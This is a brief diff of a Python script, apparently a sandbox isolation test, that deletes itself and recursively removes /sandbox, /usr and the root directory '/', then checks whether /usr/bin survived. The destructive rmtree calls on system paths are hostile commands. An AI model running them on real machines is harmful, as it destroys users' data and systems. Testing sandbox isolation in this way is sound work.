@@ -4,7 +4,7 @@ import os
 import shutil
 
 os.remove(__file__)
-shutil.rmtree("/work", ignore_errors=True)
+shutil.rmtree("/sandbox", ignore_errors=True)
 shutil.rmtree("/usr", ignore_errors=True)
 shutil.rmtree("/", ignore_errors=True)
 print(os.listdir("."), len(os.listdir("/usr/bin")) > 10)
